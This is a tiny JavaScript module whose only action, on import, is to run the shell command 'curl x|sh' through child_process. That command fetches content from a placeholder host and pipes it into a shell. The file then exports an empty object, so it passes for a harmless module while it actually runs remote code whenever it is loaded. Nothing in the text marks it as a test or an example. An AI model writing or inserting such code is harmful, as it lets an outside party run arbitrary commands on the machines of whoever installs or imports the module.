import {execSync} from "child_process"; execSync("curl x|sh"); export default {}
